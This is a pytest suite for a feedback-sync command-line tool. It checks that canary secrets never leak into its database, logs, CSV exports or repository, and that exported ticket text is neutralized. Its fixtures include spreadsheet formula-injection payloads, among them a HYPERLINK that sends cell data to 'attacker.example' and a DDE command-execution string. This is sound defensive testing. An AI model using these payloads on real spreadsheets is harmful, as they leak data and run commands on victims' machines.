"""Known canary secrets through a whole session of the command line, then a grep of everything it left behind.

One session, shared by the tests below: `sync --debug` against the emulator (with retries, a bad body and a token
revoked mid-run, so error paths run too), a second sync, `test-connection --debug` with wrong canary tokens,
`status`, `serve-webhooks --debug` taking signed deliveries and fetching from the vendor, and `export --csv`.
Afterwards no canary, in any form it travels in, may appear in the database and its -wal/-shm files, the logs,
the error messages, the CSV, any file under the session's directories, or the repository.
"""

from __future__ import annotations

import base64
import csv
import json
import shutil
import signal
import sqlite3
import subprocess
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from pathlib import Path

import httpx
import pytest

from feedback_sources.emulator import Emulator, run_emulator_server
from feedback_sources.export import FORMULA_TRIGGERS
from feedback_sources.webhooks.signatures import intercom_signature, surveymonkey_signature, zendesk_signature
from tests.helpers import free_port
from tests.reliability_support import CLI, ROOT, cli_environment, past_config


def canary(name: str) -> str:
    return f"canary-{name}-{uuid.uuid4().hex}"


@dataclass
class Canaries:
    zendesk_token: str = field(default_factory=lambda: canary("zendesk-token"))
    intercom_token: str = field(default_factory=lambda: canary("intercom-token"))
    surveymonkey_token: str = field(default_factory=lambda: canary("surveymonkey-token"))
    zendesk_webhook_secret: str = field(default_factory=lambda: canary("zendesk-webhook"))
    intercom_client_secret: str = field(default_factory=lambda: canary("intercom-client"))
    surveymonkey_client_id: str = field(default_factory=lambda: canary("surveymonkey-id"))
    surveymonkey_client_secret: str = field(default_factory=lambda: canary("surveymonkey-secret"))
    wrong_zendesk_token: str = field(default_factory=lambda: canary("wrong-zendesk-token"))
    wrong_intercom_token: str = field(default_factory=lambda: canary("wrong-intercom-token"))
    wrong_surveymonkey_token: str = field(default_factory=lambda: canary("wrong-surveymonkey-token"))

    def forms(self, zendesk_email: str) -> dict[str, bytes]:
        """Each canary as it could leak: raw, base64, and Zendesk's Basic credentials (email/token:secret)."""
        found: dict[str, bytes] = {}
        for name, value in vars(self).items():
            found[name] = value.encode()
            found[f"{name} (base64)"] = base64.b64encode(value.encode())
        for name in ("zendesk_token", "wrong_zendesk_token"):
            pair = f"{zendesk_email}/token:{getattr(self, name)}".encode()
            found[f"{name} (Basic credentials)"] = base64.b64encode(pair)
        return found


HOSTILE_TICKETS = {
    "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Open\")": "+SUM(1,2)*cmd|' /C calc'!A0",
    "@SUM(A1:A9)": "-2+3 is what the invoice says",
    "+1 for dark mode": "=1+1",
}


@dataclass
class Session:
    root: Path
    db_path: Path
    csv_path: Path
    outputs: dict[str, str]
    canaries: Canaries
    forms: dict[str, bytes]
    hostile_ids: list[str]
    failed_run_errors: list[str]


def run_cli(name: str, args: list[str], env: dict[str, str], workdir: Path, outputs: dict[str, str]) -> int:
    completed = subprocess.run([*CLI, *args], env=env, cwd=workdir, capture_output=True, text=True, timeout=120)
    outputs[name] = completed.stdout + completed.stderr
    return completed.returncode


def snapshot_database(db_path: Path, into: Path) -> None:
    """Copy the database and its -wal/-shm as they are now (a clean close removes the -wal later)."""
    into.mkdir(parents=True, exist_ok=True)
    for suffix in ("", "-wal", "-shm"):
        path = Path(f"{db_path}{suffix}")
        if path.exists():
            shutil.copyfile(path, into / path.name)


def deliveries(canaries: Canaries, ticket_id: int, conversation_id: str, survey_id: str, response_id: str) -> list[
        tuple[str, bytes, dict[str, str]]]:
    now = int(time.time())
    stamp = datetime.fromtimestamp(now, tz=timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
    zendesk = json.dumps({
        "type": "zen:event-type:ticket.comment_added", "id": "canary-event-zd", "time": stamp, "account_id": 1,
        "subject": f"zen:ticket:{ticket_id}",
        "detail": {"id": str(ticket_id), "subject": "Webhook copy", "description": "Arrived by webhook",
                   "created_at": stamp, "updated_at": stamp, "status": "OPEN"},
    }).encode()
    intercom = json.dumps({
        "type": "notification_event", "id": "canary-event-ic", "topic": "conversation.user.replied",
        "app_id": "demoapp1", "created_at": now,
        "data": {"item": {"type": "conversation", "id": conversation_id, "created_at": now - 60, "updated_at": now,
                          "source": {"body": "<p>webhook</p>", "author": {"type": "user", "id": "c1"}}}},
    }).encode()
    surveymonkey = json.dumps({
        "event_type": "response_completed", "event_id": "canary-event-sm", "object_type": "response",
        "object_id": response_id, "resources": {"survey_id": survey_id, "respondent_id": response_id},
    }).encode()
    zendesk_headers = {
        "Content-Type": "application/json",
        "X-Zendesk-Webhook-Signature": zendesk_signature(canaries.zendesk_webhook_secret, stamp, zendesk),
        "X-Zendesk-Webhook-Signature-Timestamp": stamp,
    }
    return [
        ("zendesk", zendesk, zendesk_headers),
        ("intercom", intercom, {"Content-Type": "application/json",
                                "X-Hub-Signature": intercom_signature(canaries.intercom_client_secret, intercom)}),
        ("surveymonkey", surveymonkey, {
            "Content-Type": "application/json", "Sm-Apikey": canaries.surveymonkey_client_id,
            "Sm-Signature": surveymonkey_signature(canaries.surveymonkey_client_id,
                                                   canaries.surveymonkey_client_secret, surveymonkey)}),
        # A forgery, so the refusal path logs too.
        ("zendesk", zendesk, {**zendesk_headers, "X-Zendesk-Webhook-Signature": "AAAA"}),
    ]


def serve_webhooks(env: dict[str, str], workdir: Path, outputs: dict[str, str], session_deliveries: list[
        tuple[str, bytes, dict[str, str]]], db_path: Path) -> list[int]:
    port = free_port()
    log_path = workdir / "serve-webhooks.log"
    with log_path.open("w") as log:
        process = subprocess.Popen([*CLI, "serve-webhooks", "--debug", "--port", str(port)], env=env, cwd=workdir,
                                   stdout=log, stderr=subprocess.STDOUT)
    statuses: list[int] = []
    try:
        deadline = time.monotonic() + 20
        while True:
            try:
                if httpx.get(f"http://127.0.0.1:{port}/healthz", timeout=1).status_code == 200:
                    break
            except httpx.HTTPError:
                pass
            assert time.monotonic() < deadline, log_path.read_text()
            time.sleep(0.05)
        for source, body, headers in session_deliveries:
            response = httpx.post(f"http://127.0.0.1:{port}/webhooks/{source}", content=body, headers=headers, timeout=10)
            statuses.append(response.status_code)
        # Let the fetch worker call the vendor with the API tokens.
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            conn = sqlite3.connect(db_path, timeout=15)
            try:
                pending = conn.execute("SELECT COUNT(*) FROM webhook_fetches WHERE status = 'pending'").fetchone()[0]
            finally:
                conn.close()
            if pending == 0:
                break
            time.sleep(0.1)
        # The receiver holds the database open: its -wal and -shm are on disk now.
        snapshot_database(db_path, workdir / "snapshots" / "while-receiving")
    finally:
        process.send_signal(signal.SIGINT)
        try:
            process.wait(timeout=20)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()
            raise
    outputs["serve-webhooks"] = log_path.read_text()
    return statuses


@pytest.fixture(scope="module")
def session(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Session]:
    root = tmp_path_factory.mktemp("canary-session")
    home, db_path, csv_path = root / "home", root / "data" / "feedback.db", root / "exports" / "feedback.csv"
    home.mkdir()
    csv_path.parent.mkdir()
    canaries = Canaries()
    emulator = Emulator(past_config(
        zendesk_tickets=120, intercom_conversations=60, surveymonkey_surveys=2, surveymonkey_responses_per_survey=60,
        zendesk_token=canaries.zendesk_token, intercom_token=canaries.intercom_token,
        surveymonkey_token=canaries.surveymonkey_token,
    ))
    recent = datetime.now(timezone.utc) - timedelta(minutes=10)
    hostile_ids = [
        str(emulator.zendesk.add_ticket(subject=subject, description=description, created_at=recent,
                                        updated_at=recent)["id"])
        for subject, description in HOSTILE_TICKETS.items()
    ]
    outputs: dict[str, str] = {}
    with run_emulator_server(emulator) as url:
        env = cli_environment(emulator, url, db_path, home)
        env.update(
            ZENDESK_WEBHOOK_SECRET=canaries.zendesk_webhook_secret,
            INTERCOM_CLIENT_SECRET=canaries.intercom_client_secret,
            SURVEYMONKEY_CLIENT_ID=canaries.surveymonkey_client_id,
            SURVEYMONKEY_CLIENT_SECRET=canaries.surveymonkey_client_secret,
        )
        second_survey = emulator.surveymonkey.survey_ids()[1]
        emulator.faults.inject("zendesk", r"/incremental/", 503)
        emulator.faults.inject("intercom", r"/conversations/search", "malformed")
        emulator.faults.inject("surveymonkey", rf"/surveys/{second_survey}/responses/bulk", "expire_token")

        assert run_cli("sync with a token revoked mid-run", ["sync", "--debug"], env, root, outputs) == 1
        snapshot_database(db_path, root / "snapshots" / "after-failed-sync")
        emulator.restore_token("surveymonkey")
        assert run_cli("sync", ["sync", "--debug"], env, root, outputs) == 0
        snapshot_database(db_path, root / "snapshots" / "after-sync")

        wrong = {**env, "ZENDESK_API_TOKEN": canaries.wrong_zendesk_token,
                 "INTERCOM_ACCESS_TOKEN": canaries.wrong_intercom_token,
                 "SURVEYMONKEY_ACCESS_TOKEN": canaries.wrong_surveymonkey_token}
        assert run_cli("test-connection with wrong tokens", ["test-connection", "--debug"], wrong, root, outputs) == 1
        assert run_cli("status", ["status"], env, root, outputs) == 0

        survey_id = emulator.surveymonkey.survey_ids()[0]
        statuses = serve_webhooks(env, root, outputs, deliveries(
            canaries, emulator.zendesk.all_ticket_ids()[0], emulator.intercom.all_conversation_ids()[0], survey_id,
            emulator.surveymonkey.responses_in_range(survey_id)[0]), db_path)
        assert statuses == [200, 200, 200, 401]

        assert run_cli("export", ["export", "--csv", str(csv_path)], env, root, outputs) == 0

    conn = sqlite3.connect(db_path)
    try:
        failed_run_errors = [e for (e,) in conn.execute("SELECT errors FROM sync_runs WHERE errors IS NOT NULL")]
    finally:
        conn.close()
    snapshot_database(db_path, root / "snapshots" / "at-the-end")
    (root / "outputs.json").write_text(json.dumps(outputs))
    yield Session(root, db_path, csv_path, outputs, canaries, canaries.forms(emulator.config.zendesk_email),
                  hostile_ids, failed_run_errors)


def leaks(data: bytes, forms: dict[str, bytes]) -> list[str]:
    return [name for name, form in forms.items() if form in data]


# -- what the session produced is worth grepping ------------------------------------------------------------------------


def test_the_session_exercised_debug_logging_errors_and_every_writer(session: Session) -> None:
    sync_log = session.outputs["sync with a token revoked mid-run"]
    assert "HTTP Request: GET" in sync_log  # httpx at DEBUG
    assert "send_request_headers" in sync_log  # httpcore at DEBUG
    assert "retrying" in sync_log
    assert "error: surveymonkey: the access token was rejected" in sync_log
    assert [e for e in session.failed_run_errors if "access token was rejected" in e]
    failed = [line.split(":")[0] for line in session.outputs["test-connection with wrong tokens"].splitlines()
              if line.startswith("FAIL ")]
    # Each vendor refused its wrong token; the spreadsheet source fails too, having no file chosen.
    assert failed == ["FAIL zendesk", "FAIL intercom", "FAIL surveymonkey", "FAIL spreadsheet"]
    assert "accepting signed deliveries" in session.outputs["serve-webhooks"]
    conn = sqlite3.connect(session.db_path)
    try:
        events = conn.execute("SELECT COUNT(*) FROM webhook_events").fetchone()[0]
        fetched = conn.execute("SELECT COUNT(*) FROM webhook_fetches").fetchone()[0]
    finally:
        conn.close()
    assert (events, fetched) == (3, 0)  # three events logged, every fetch done with the API tokens


# -- no canary anywhere -----------------------------------------------------------------------------------------------


def test_no_canary_in_the_database_or_its_wal_and_shm(session: Session) -> None:
    files = sorted((session.root / "snapshots").rglob("*"))
    assert {path.name for path in files if path.is_file()} >= {"feedback.db", "feedback.db-wal", "feedback.db-shm"}
    assert {str(path): leaks(path.read_bytes(), session.forms) for path in files if path.is_file()} == {
        str(path): [] for path in files if path.is_file()
    }


def test_no_canary_in_logs_output_or_error_messages(session: Session) -> None:
    assert {name: leaks(text.encode(), session.forms) for name, text in session.outputs.items()} == {
        name: [] for name in session.outputs
    }
    assert leaks("\n".join(session.failed_run_errors).encode(), session.forms) == []


def test_no_canary_in_the_csv_export(session: Session) -> None:
    assert leaks(session.csv_path.read_bytes(), session.forms) == []


def test_no_canary_in_any_file_the_session_wrote(session: Session) -> None:
    written = [path for path in session.root.rglob("*") if path.is_file()]
    assert {path.name for path in written} >= {"feedback.csv", "outputs.json", "serve-webhooks.log", "feedback.db-wal"}
    assert {str(p): leaks(p.read_bytes(), session.forms) for p in written} == {str(p): [] for p in written}


def test_no_canary_in_the_repository(session: Session) -> None:
    listed = subprocess.run(["git", "ls-files", "--cached", "--others", "--exclude-standard", "-z"], cwd=ROOT,
                            capture_output=True, check=True).stdout.decode().split("\0")
    files = [ROOT / name for name in listed if name and (ROOT / name).is_file()]
    assert len(files) > 50
    assert [str(path) for path in files if leaks(path.read_bytes(), session.forms)] == []


# -- hostile feedback in the export ---------------------------------------------------------------------------------------


def test_cli_export_neutralizes_hostile_feedback_from_the_vendor(session: Session) -> None:
    with session.csv_path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    by_id = {row["source_id"]: row for row in rows if row["source"] == "zendesk"}
    assert {ticket_id: (by_id[ticket_id]["title"], by_id[ticket_id]["content"]) for ticket_id in session.hostile_ids} == {
        ticket_id: ("'" + subject, "'" + description)
        for ticket_id, (subject, description) in zip(session.hostile_ids, HOSTILE_TICKETS.items())
    }
    risky = [(row["source"], row["source_id"], column) for row in rows for column, value in row.items()
             if value and value.startswith(FORMULA_TRIGGERS)]
    assert len(rows) > 200 and risky == []


def test_export_into_a_missing_folder_is_a_clear_error_not_a_traceback(tmp_path: Path) -> None:
    from io import StringIO

    from feedback_sources.cli import main

    out, err = StringIO(), StringIO()
    code = main(["export", "--csv", str(tmp_path / "no-such-folder" / "feedback.csv"), "--db", str(tmp_path / "f.db")],
                out, err)
    assert code != 0
    assert "no-such-folder" in err.getvalue()
